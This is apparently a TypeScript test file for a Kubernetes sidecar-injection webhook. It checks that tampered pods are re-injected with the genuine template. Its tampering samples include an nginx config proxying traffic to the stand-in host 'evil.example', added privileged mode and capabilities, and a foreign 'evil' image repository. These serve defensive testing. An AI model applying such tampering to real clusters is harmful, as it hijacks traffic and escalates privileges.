// What counts as "already injected": a pod that carries podpattern.dev/status is ours only when
// every object the status records is what the template renders for that pod. Each case was
// reproduced against the engine before its fix: a near copy of our container, a native sidecar
// another webhook broke, a registry mirror's rewrite, a template dropped with its parameters.
// Every result is checked by applying the patch to the pod it came with.
import t, { type Test } from 'tap';
import type { V1Container } from '#kube';
import { applyPatch, inject, type InjectOptions, type PodLike } from '../../src/engine/index.js';
import { buildCatalog, loadBuiltinTemplates, parseTemplates } from '../../src/catalog/index.js';
import { storedByApiServer } from '../helpers/stored-pod.js';
import { testCatalog } from '../helpers/catalog.js';

type Pod = PodLike & {
  metadata: { annotations: Record<string, string> };
  spec: { containers: V1Container[]; initContainers?: V1Container[]; volumes?: Array<{ name: string }> };
};

const builtin = buildCatalog([loadBuiltinTemplates()]);
const STATUS = 'podpattern.dev/status';
const FILE = 'https-proxy.podpattern.dev/file.nginx.conf';
const asked = { 'podpattern.dev/sidecar': 'https-proxy', 'https-proxy.podpattern.dev/tls-secret': 'web-tls' };

function pod(annotations: Record<string, string>): Pod {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'web', annotations },
    spec: { containers: [{ name: 'app', image: 'example.org/app:1' }] },
  };
}

/** The pod as the API server stores it after podpattern's patch: what a reinvocation sees. */
function injected(annotations: Record<string, string>, options: InjectOptions, catalog = builtin): Pod {
  const first = inject(pod(annotations), catalog, options);
  if (first.outcome !== 'injected') throw new Error(`not injected: ${first.outcome}`);
  return storedByApiServer(applyPatch<Pod>(pod(annotations), first.patch));
}

function proxyOf(p: Pod): V1Container {
  return [...p.spec.containers, ...(p.spec.initContainers ?? [])].find((c) => c.name === 'https-proxy') as V1Container;
}

/** Injects `tampered` again: it must be injected afresh, and the patch must give back `genuine`'s proxy and file. */
function reinjectsCorrectly(t: Test, tampered: Pod, genuine: Pod, options: InjectOptions, label: string): Pod | undefined {
  const result = inject(tampered, builtin, options);
  t.equal(result.outcome, 'injected', `${label}: not taken as already injected`);
  if (result.outcome !== 'injected') return undefined;
  const after = applyPatch<Pod>(tampered, result.patch);
  const proxies = [...after.spec.containers, ...(after.spec.initContainers ?? [])].filter((c) => c.name === 'https-proxy');
  t.equal(proxies.length, 1, `${label}: one https-proxy container`);
  const { volumeMounts: _a, ...expected } = proxyOf(genuine);
  const { volumeMounts: _b, ...got } = proxies[0] as V1Container;
  t.same(got, expected, `${label}: the container is the template's again`);
  t.equal(after.metadata.annotations[FILE], genuine.metadata.annotations[FILE], `${label}: the file is the template's again`);
  t.match(inject(after, builtin, options), { outcome: 'skipped', reason: 'already-injected' }, `${label}: and that pod is injected`);
  return after;
}

for (const nativeSidecars of ['always', 'never'] as const) {
  const options: InjectOptions = { nativeSidecars, namespace: 'shop' };
  t.test(`a covering copy of our container is not ours (${nativeSidecars === 'always' ? 'native' : 'classic'} sidecar)`, async (t) => {
    const genuine = injected(asked, options);
    t.match(inject(genuine, builtin, options), { outcome: 'skipped', reason: 'already-injected' }, 'the genuine pod is injected');

    const prefixed = structuredClone(genuine);
    proxyOf(prefixed).command = ['sh', '-c', 'sleep 86400', ...(proxyOf(prefixed).command ?? [])];
    reinjectsCorrectly(t, prefixed, genuine, options, 'command prefixed');

    const args = structuredClone(genuine);
    proxyOf(args).args = ['-g', 'user root;'];
    reinjectsCorrectly(t, args, genuine, options, 'args added');

    const caps = structuredClone(genuine);
    proxyOf(caps).securityContext = { ...proxyOf(caps).securityContext, capabilities: { drop: ['ALL'], add: ['NET_ADMIN', 'SYS_PTRACE'] } };
    reinjectsCorrectly(t, caps, genuine, options, 'capabilities added');

    const privileged = structuredClone(genuine);
    proxyOf(privileged).securityContext = { ...proxyOf(privileged).securityContext, privileged: true };
    reinjectsCorrectly(t, privileged, genuine, options, 'privileged added');

    // The file replaced, and the status no longer naming it (as if the pod had set it itself).
    const file = structuredClone(genuine);
    file.metadata.annotations[FILE] =
      'daemon off; events {} http { server { listen 8443; location / { proxy_pass http://evil.example; } } }\n';
    const status = JSON.parse(file.metadata.annotations[STATUS] as string) as { annotations: string[] };
    status.annotations = status.annotations.filter((k) => k !== FILE);
    file.metadata.annotations[STATUS] = JSON.stringify(status);
    reinjectsCorrectly(t, file, genuine, options, 'its own nginx.conf, unrecorded');

    const all = structuredClone(prefixed);
    proxyOf(all).securityContext = proxyOf(caps).securityContext;
    all.metadata.annotations[FILE] = file.metadata.annotations[FILE]!;
    all.metadata.annotations[STATUS] = file.metadata.annotations[STATUS]!;
    reinjectsCorrectly(t, all, genuine, options, 'all three at once');
  });
}

t.test('a native sidecar whose restartPolicy another webhook dropped is not ours: it is restored', async (t) => {
  const options: InjectOptions = { nativeSidecars: 'always', namespace: 'shop' };
  const genuine = injected(asked, options);
  t.equal(proxyOf(genuine).restartPolicy, 'Always');
  const dropped = structuredClone(genuine);
  delete proxyOf(dropped).restartPolicy;
  const after = reinjectsCorrectly(t, dropped, genuine, options, 'restartPolicy dropped');
  t.equal(after && proxyOf(after).restartPolicy, 'Always', 'a native sidecar again: the pod leaves Init');
  t.ok(
    after?.spec.initContainers?.some((c) => c.name === 'https-proxy'),
    'still an init container',
  );
});

t.test('a classic sidecar moved among the init containers is not ours', async (t) => {
  const options: InjectOptions = { nativeSidecars: 'never', namespace: 'shop' };
  const genuine = injected(asked, options);
  const moved = structuredClone(genuine);
  const proxy = proxyOf(moved);
  moved.spec.containers = moved.spec.containers.filter((c) => c.name !== 'https-proxy');
  moved.spec.initContainers = [proxy];
  reinjectsCorrectly(t, moved, genuine, options, 'a classic sidecar as a run-once init container');
});

t.test("a registry mirror's rewrite of the registry host is kept; another repository, tag or digest is not", async (t) => {
  const options: InjectOptions = { nativeSidecars: 'always', namespace: 'shop' };
  const genuine = injected(asked, options);
  const original = proxyOf(genuine).image as string;
  t.equal(original, 'nginxinc/nginx-unprivileged:1.29.0-alpine', 'the built-in image, on Docker Hub');
  const mirrored = [
    'mirror.corp.example:5000/nginxinc/nginx-unprivileged:1.29.0-alpine',
    'registry.local/nginxinc/nginx-unprivileged:1.29.0-alpine',
    'docker.io/nginxinc/nginx-unprivileged:1.29.0-alpine',
    'localhost/nginxinc/nginx-unprivileged:1.29.0-alpine',
  ];
  for (const image of mirrored) {
    const pod = structuredClone(genuine);
    proxyOf(pod).image = image;
    t.match(inject(pod, builtin, options), { outcome: 'skipped', reason: 'already-injected' }, `${image}: kept`);
  }
  const pinned = structuredClone(genuine);
  proxyOf(pinned).image = `mirror.corp.example/nginxinc/nginx-unprivileged:1.29.0-alpine@sha256:${'a'.repeat(64)}`;
  t.match(
    inject(pinned, builtin, options),
    { outcome: 'skipped', reason: 'already-injected' },
    'a digest added to a template image without one: kept',
  );
  const foreign = [
    'mirror.corp.example/nginxinc/nginx-unprivileged:1.28.0-alpine',
    'mirror.corp.example/evil/nginx-unprivileged:1.29.0-alpine',
    'mirror.corp.example/nginx-unprivileged:1.29.0-alpine',
    'nginxinc/nginx-unprivileged',
    'nginxinc/nginx-unprivileged:1.29.0-alpine-debug',
    'mirror.corp.example/mirror/nginxinc/nginx-unprivileged:1.29.0-alpine',
  ];
  for (const image of foreign) {
    const pod = structuredClone(genuine);
    proxyOf(pod).image = image;
    const after = reinjectsCorrectly(t, pod, genuine, options, image);
    t.equal(after && proxyOf(after).image, original, `${image}: the template's image again`);
  }

  // A template pinned by digest: the digest must stay.
  const digest = `sha256:${'b'.repeat(64)}`;
  const pinnedCatalog = buildCatalog([
    parseTemplates(
      `apiVersion: podpattern.dev/v1alpha1
kind: PatternTemplate
metadata: { name: pinned }
spec:
  pattern: sidecar
  description: A sidecar pinned by digest.
  containers: [{ name: pinned, image: "ghcr.io/example/agent:2.1@${digest}", args: [run] }]
`,
      'cluster',
    ),
  ]);
  const ask = { 'podpattern.dev/sidecar': 'pinned' };
  const stored = injected(ask, options, pinnedCatalog);
  const image = (p: Pod, to: string): Pod => {
    const copy = structuredClone(p);
    (copy.spec.initContainers as V1Container[])[0]!.image = to;
    return copy;
  };
  t.match(
    inject(image(stored, `mirror.example/example/agent:2.1@${digest}`), pinnedCatalog, options),
    { outcome: 'skipped', reason: 'already-injected' },
    'the same digest on a mirror: kept',
  );
  t.equal(
    inject(image(stored, `mirror.example/example/agent:2.1@sha256:${'c'.repeat(64)}`), pinnedCatalog, options).outcome,
    'injected',
    'another digest: not ours',
  );
  t.equal(
    inject(image(stored, 'mirror.example/example/agent:2.1'), pinnedCatalog, options).outcome,
    'injected',
    'the digest dropped: not ours',
  );
});

t.test('a template dropped with its parameters takes its containers, volumes and files with it', async (t) => {
  const catalog = testCatalog();
  const options: InjectOptions = { nativeSidecars: 'never', namespace: 'shop' };
  const both = { 'podpattern.dev/sidecar': 'https-proxy, demo-sidecar', 'https-proxy.podpattern.dev/tls-secret': 'web-tls' };
  const stored = injected(both, options, catalog);
  const alone = injected({ 'podpattern.dev/sidecar': 'demo-sidecar' }, options, catalog);
  const { after } = dropHttpsProxy(t, stored, catalog, options);
  if (after === undefined) return;
  t.same(
    after.spec.containers.map((c) => c.name),
    ['app', 'demo-sidecar'],
    "the dropped template's container is gone",
  );
  t.same((after.spec.volumes ?? []).map((v) => v.name).sort(), (alone.spec.volumes ?? []).map((v) => v.name).sort(), 'and its volumes');
  t.notOk(FILE in after.metadata.annotations, 'and its file');
  t.same(
    JSON.parse(after.metadata.annotations[STATUS] as string),
    JSON.parse(alone.metadata.annotations[STATUS] as string),
    'the status is that of the template alone',
  );
  t.match(inject(after, catalog, options), { outcome: 'skipped', reason: 'already-injected' });
});

t.test('a dropped template whose objects cannot be proven ours: they stay, recorded, and the pod author is told', async (t) => {
  const options: InjectOptions = { nativeSidecars: 'never', namespace: 'shop' };
  const both = { 'podpattern.dev/sidecar': 'https-proxy, demo-sidecar', 'https-proxy.podpattern.dev/tls-secret': 'web-tls' };
  const stored = injected(both, options, testCatalog());
  // The catalog no longer has https-proxy: its old output cannot be rebuilt.
  const catalog = buildCatalog([parseTemplates(readDemo(), 'cluster')]);
  const { result, after } = dropHttpsProxy(t, stored, catalog, options);
  if (after === undefined) return;
  t.ok(
    after.spec.containers.some((c) => c.name === 'https-proxy'),
    'the container podpattern cannot prove its own stays',
  );
  const status = JSON.parse(after.metadata.annotations[STATUS] as string) as {
    containers: string[];
    volumes: string[];
    annotations: string[];
  };
  t.ok(status.containers.includes('https-proxy'), 'and stays recorded in the status');
  t.ok(status.volumes.includes('https-proxy-tls') && status.volumes.includes('https-proxy-files'), 'with its volumes');
  t.ok(status.annotations.includes(FILE), 'and its file');
  t.match(result.warnings.join('\n'), /https-proxy/, 'a warning names what is left');
  t.match(inject(after, catalog, options), { outcome: 'skipped', reason: 'already-injected' }, 'and the result converges');
});

/** `stored` with https-proxy and its parameter dropped, injected again: the answer and the pod it gives. */
function dropHttpsProxy(
  t: Test,
  stored: Pod,
  catalog: ReturnType<typeof testCatalog>,
  options: InjectOptions,
): { result: ReturnType<typeof inject>; after: Pod | undefined } {
  const dropped = structuredClone(stored);
  dropped.metadata.annotations['podpattern.dev/sidecar'] = 'demo-sidecar';
  delete dropped.metadata.annotations['https-proxy.podpattern.dev/tls-secret'];
  const result = inject(dropped, catalog, options);
  t.equal(result.outcome, 'injected');
  return { result, after: result.outcome === 'injected' ? applyPatch<Pod>(dropped, result.patch) : undefined };
}

function readDemo(): string {
  const catalog = testCatalog();
  const demo = catalog.get('demo-sidecar')!;
  return JSON.stringify({
    apiVersion: 'podpattern.dev/v1alpha1',
    kind: 'PatternTemplate',
    metadata: { name: 'demo-sidecar' },
    spec: demo.spec,
  });
}
